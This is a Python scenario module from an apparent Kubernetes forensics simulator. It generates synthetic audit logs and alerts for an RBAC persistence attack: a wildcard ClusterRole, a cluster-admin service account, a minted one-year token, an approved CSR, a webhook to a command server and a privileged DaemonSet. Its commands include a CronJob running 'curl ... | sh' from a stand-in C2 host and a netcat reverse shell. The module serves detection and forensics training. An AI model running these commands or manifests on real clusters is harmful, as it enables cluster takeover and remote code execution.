"""D. RBAC persistence: wildcard role, new account, minted token and certificate, CronJob, webhook, DaemonSet."""

from __future__ import annotations

from typing import Any

from kubeforensics.simulate.clock import NS
from kubeforensics.simulate.cluster import Process, ServiceAccount, Workload
from kubeforensics.simulate.cronjobs import cron_run
from kubeforensics.simulate.dataset import MS, Dataset
from kubeforensics.simulate.formats import audit as fa
from kubeforensics.simulate.formats import k8s as fk
from kubeforensics.simulate.scenarios.common import audit_alert, public_ip
from kubeforensics.simulate.topology import App, add_app_pod

NAME = "rbac-persistence"
DESCRIPTION = "stolen admin kubeconfig creates a wildcard ClusterRole, account, tokens, CronJob, webhook and DaemonSet"
PINNED: tuple[str, ...] = ()
ADMIN = 'RBAC: allowed by ClusterRoleBinding "cluster-admin" of ClusterRole "cluster-admin" to Group "system:masters"'
RBAC_G = "rbac.authorization.k8s.io"


def _create(ds: Dataset, t: int, user: dict[str, Any], ip: str, ua: str, obj: dict[str, Any], resource: str,
            group: str, authz: str = ADMIN) -> str:
    meta = obj["metadata"]
    ns = meta.get("namespace")
    version = obj["apiVersion"].split("/")[-1]
    base = f"/apis/{obj['apiVersion']}" if "/" in obj["apiVersion"] else "/api/v1"
    uri = f"{base}/namespaces/{ns}/{resource}" if ns else f"{base}/{resource}"
    ds.extra_objects.append(obj)
    return ds.api(t, user=user, verb="create", uri=uri + "?fieldManager=kubectl-create&fieldValidation=Strict", ip=ip,
                  ua=ua, code=201, level="RequestResponse", ref=fa.ref(resource, ns, meta["name"], api_group=group,
                                                                        api_version=version),
                  req=obj, resp=obj, authz=authz, received_stage=True)


def run(ds: Dataset) -> None:
    cl, rng, tr = ds.cl, ds.rng, ds.truth
    ip = public_ip(ds)
    c2 = public_ip(ds)
    user = fa.human_user("kubernetes-admin", ["kubeadm:cluster-admins", "system:masters"])
    ua = fa.UA_KUBECTL_NEW
    name = rng.choice(("system:metrics-aggregator", "system:node-monitor", "system:kube-cache"))
    short = name.split(":")[1]
    t = cl.t0 + int((cl.t1 - cl.t0) * rng.uniform(0.3, 0.38))
    now = fk.rfc0(t)

    tr.begin(t, "T1098.006", "Persistence", f"kubernetes-admin from {ip}: wildcard ClusterRole {name}, account "
             f"kube-system/{short}, binding to cluster-admin", user="kubernetes-admin", ip=ip, namespace="kube-system",
             serviceaccount=short)
    role = {"kind": "ClusterRole", "apiVersion": f"{RBAC_G}/v1", "metadata": {"name": name, "uid": ds.ids.uuid(),
            "creationTimestamp": now}, "rules": [{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}]}
    _create(ds, t, user, ip, ua, role, "clusterroles", RBAC_G)
    audit_alert(ds, t + 20 * MS, "ClusterRole With Wildcard Created", "Warning", "Created Role/ClusterRole with "
                "wildcard", user="kubernetes-admin", verb="create", resource="clusterroles", ns=None, name=name,
                code=201, uri=f"/apis/{RBAC_G}/v1/clusterroles", tags=["k8s"])
    sa = ServiceAccount("kube-system", short, ds.ids.uuid(), t + 6 * NS)
    cl.service_accounts[f"kube-system/{short}"] = sa
    ds.api(t + 6 * NS, user=user, verb="create", uri="/api/v1/namespaces/kube-system/serviceaccounts", ip=ip, ua=ua,
           code=201, ref=fa.ref("serviceaccounts", "kube-system", short), authz=ADMIN, received_stage=True)
    audit_alert(ds, t + 6 * NS + 20 * MS, "K8s Serviceaccount Created", "Notice", "K8s Serviceaccount Created",
                user="kubernetes-admin", verb="create", resource="serviceaccounts", ns="kube-system", name=short,
                code=201, uri="/api/v1/namespaces/kube-system/serviceaccounts", tags=["k8s"])
    binding = {"kind": "ClusterRoleBinding", "apiVersion": f"{RBAC_G}/v1",
               "metadata": {"name": name, "uid": ds.ids.uuid(), "creationTimestamp": fk.rfc0(t + 11 * NS)},
               "roleRef": {"apiGroup": RBAC_G, "kind": "ClusterRole", "name": "cluster-admin"},
               "subjects": [{"kind": "ServiceAccount", "name": short, "namespace": "kube-system"}]}
    _create(ds, t + 11 * NS, user, ip, ua, binding, "clusterrolebindings", RBAC_G)
    audit_alert(ds, t + 11 * NS + 20 * MS, "Attach to cluster-admin Role", "Warning", "Cluster Role Binding to "
                "cluster-admin role", user="kubernetes-admin", verb="create", resource="clusterrolebindings", ns=None,
                name=name, code=201, uri=f"/apis/{RBAC_G}/v1/clusterrolebindings", tags=["k8s"])
    tr.end()

    t += rng.randrange(60, 180) * NS
    jti = ds.ids.uuid()
    csr = f"csr-{ds.ids.suffix()}"
    tr.begin(t, "T1528", "Credential Access", f"mints a one-year token for kube-system/{short} and gets CSR {csr} "
             "approved", user="kubernetes-admin", ip=ip, serviceaccount=short, credential_id=f"JTI={jti}")
    ds.api(t, user=user, verb="create", uri=f"/api/v1/namespaces/kube-system/serviceaccounts/{short}/token", ip=ip,
           ua=ua, code=201, ref=fa.ref("serviceaccounts", "kube-system", short, subresource="token"), authz=ADMIN,
           level="Request", req={"kind": "TokenRequest", "apiVersion": "authentication.k8s.io/v1",
                                 "spec": {"audiences": None, "expirationSeconds": 31536000}}, received_stage=True)
    _create(ds, t + 30 * NS, user, ip, ua, {
        "kind": "CertificateSigningRequest", "apiVersion": "certificates.k8s.io/v1",
        "metadata": {"name": csr, "uid": ds.ids.uuid(), "creationTimestamp": fk.rfc0(t + 30 * NS)},
        "spec": {"signerName": "kubernetes.io/kube-apiserver-client", "usages": ["client auth"],
                 "username": "kubernetes-admin", "groups": ["system:masters", "system:authenticated"]}},
        "certificatesigningrequests", "certificates.k8s.io")
    ds.api(t + 38 * NS, user=user, verb="update", uri=f"/apis/certificates.k8s.io/v1/certificatesigningrequests/{csr}/"
           "approval", ip=ip, ua=ua, ref=fa.ref("certificatesigningrequests", None, csr, api_group="certificates.k8s.io",
                                                 subresource="approval"), authz=ADMIN, received_stage=True)
    tr.end()

    t += rng.randrange(60, 180) * NS
    cj = rng.choice(("log-rotate", "cert-refresh", "image-gc"))
    cmd = f"curl -s http://{c2}/s.sh | sh"
    tr.begin(t, "T1053.007", "Persistence", f"CronJob kube-system/{cj} runs '{cmd}' every 10 minutes",
             namespace="kube-system", workload=cj, ip=c2, user="kubernetes-admin")
    capp = App("kube-system", cj, "Job", 1, "default", "docker.io/curlimages/curl:8.8.0", "/bin/sh", f"-c '{cmd}'")
    w = Workload("CronJob", "kube-system", cj, ds.ids.uuid(), {"job": cj}, cl.sa("kube-system", "default"), t,
                 spec_extra={"app": capp, "schedule": "*/10 * * * *"})
    cl.workloads.append(w)
    ds.api(t, user=user, verb="create", uri="/apis/batch/v1/namespaces/kube-system/cronjobs", ip=ip, ua=ua, code=201,
           ref=fa.ref("cronjobs", "kube-system", cj, api_group="batch"), authz=ADMIN, level="RequestResponse",
           req={"kind": "CronJob", "apiVersion": "batch/v1", "metadata": {"name": cj, "namespace": "kube-system"},
                "spec": {"schedule": "*/10 * * * *", "jobTemplate": {"spec": {"template": {"spec": {"containers": [
                    {"name": cj, "image": capp.image, "command": ["/bin/sh", "-c", cmd]}]}}}}}},
           received_stage=True)
    step_cron = tr.current
    t_cron = t
    tr.end()

    t += rng.randrange(60, 180) * NS
    hook = f"{short}.acme-platform.io"
    tr.begin(t, "T1546", "Persistence", f"MutatingWebhookConfiguration {short} sends every pod create to https://{c2}:"
             "8443/mutate", user="kubernetes-admin", ip=c2, webhook=hook)
    _create(ds, t, user, ip, ua, {
        "kind": "MutatingWebhookConfiguration", "apiVersion": "admissionregistration.k8s.io/v1",
        "metadata": {"name": short, "uid": ds.ids.uuid(), "creationTimestamp": fk.rfc0(t)},
        "webhooks": [{"name": hook, "clientConfig": {"url": f"https://{c2}:8443/mutate"},
                      "rules": [{"operations": ["CREATE"], "apiGroups": [""], "apiVersions": ["v1"],
                                 "resources": ["pods"]}], "failurePolicy": "Ignore", "sideEffects": "None",
                      "admissionReviewVersions": ["v1"]}]},
        "mutatingwebhookconfigurations", "admissionregistration.k8s.io")
    ds.webhook = (short, hook, t + NS, c2)
    tr.end()

    # the CronJob's runs (recorded under the CronJob step)
    first = (t_cron // (600 * NS) + 1) * 600 * NS
    for tj in range(first, cl.t1 - 60 * NS, 600 * NS):
        tr.current = step_cron
        cron_run(ds, tj, w, capp, lambda sh, start: _payload(ds, sh, start, c2))
    tr.end()

    t += rng.randrange(120, 300) * NS
    tr.begin(t, "T1078", "Persistence", f"the minted token of kube-system/{short} used from {ip} (credential id, "
             "no pod name)", user=sa.username, ip=ip, credential_id=f"JTI={jti}")
    suser = fa.sa_user(sa, None, jti)
    authz = f'RBAC: allowed by ClusterRoleBinding "{name}" of ClusterRole "cluster-admin" to ServiceAccount ' \
            f'"{short}/kube-system"'
    for verb, uri, res in (("list", "/api/v1/secrets?limit=500", "secrets"), ("list", "/api/v1/nodes?limit=500", "nodes"),
                           ("get", "/api/v1/namespaces/kube-system/configmaps/kubeadm-config", "configmaps")):
        ds.api(t, user=suser, verb=verb, uri=uri, ip=ip, ua=ua, authz=authz,
               ref=fa.ref(res, "kube-system" if res == "configmaps" else None,
                          "kubeadm-config" if res == "configmaps" else None))
        t += rng.randrange(4, 20) * NS
    tr.end()

    t += rng.randrange(60, 200) * NS
    ds_name = rng.choice(("node-log-agent", "kube-net-probe"))
    tr.begin(t, "T1610", "Persistence", f"DaemonSet kube-system/{ds_name} created with the new account: a privileged "
             "pod on every node", user=sa.username, ip=ip, namespace="kube-system", workload=ds_name)
    dapp = App("kube-system", ds_name, "DaemonSet", 0, short, "docker.io/library/alpine:3.20", "/bin/sh",
               f"-c 'while true; do nc {c2} 443 -e /bin/sh; sleep 300; done'", privileged=True, host_pid=True,
               host_paths=(("host", "/"),))
    dw = Workload("DaemonSet", "kube-system", ds_name, ds.ids.uuid(), {"name": ds_name}, sa, t, rs_hash=ds.ids.rs_hash(),
                  spec_extra={"app": dapp})
    cl.workloads.append(dw)
    ds.api(t, user=suser, verb="create", uri="/apis/apps/v1/namespaces/kube-system/daemonsets", ip=ip, ua=ua, code=201,
           ref=fa.ref("daemonsets", "kube-system", ds_name, api_group="apps"), authz=authz, received_stage=True)
    tt = t + 100 * MS
    for i, node in enumerate(cl.nodes):
        pod = add_app_pod(cl, ds.ids, dapp, dw, node, i, tt, flags="execve rootcwd clone")
        ds.api(tt, user=fa.sa_user(cl.sa("kube-system", "daemon-set-controller")), verb="create", code=201,
               uri="/api/v1/namespaces/kube-system/pods", ip=cl.control_plane.ip, ua=fa.UA_KCM,
               ref=fa.ref("pods", "kube-system", pod.name))
        ds.event(tt, "DaemonSet", "kube-system", ds_name, dw.uid, "SuccessfulCreate", f"Created pod: {pod.name}",
                 component="daemonset-controller", api_version="apps/v1")
        start = ds.start_pod(tt, pod)
        sh = pod.containers[0].init
        assert sh is not None
        nc = ds.spawn(start + NS, sh, "/usr/bin/nc", f"{c2} 443 -e /bin/sh")
        ds.connect(start + NS + 3 * MS, nc, c2, 443)
        tt += rng.randrange(30, 300) * MS
    tr.end()


def _payload(ds: Dataset, sh: Process, start: int, c2: str) -> None:
    curl = ds.spawn(start + 5 * MS, sh, "/usr/bin/curl", f"-s http://{c2}/s.sh", exit_after=700 * MS)
    ds.connect(start + 10 * MS, curl, c2, 80)
    sh2 = ds.spawn(start + 6 * MS, sh, "/bin/sh", "", exit_after=2 * NS)
    ds.spawn(start + 800 * MS, sh2, "/usr/bin/uname", "-a", exit_after=3 * MS)
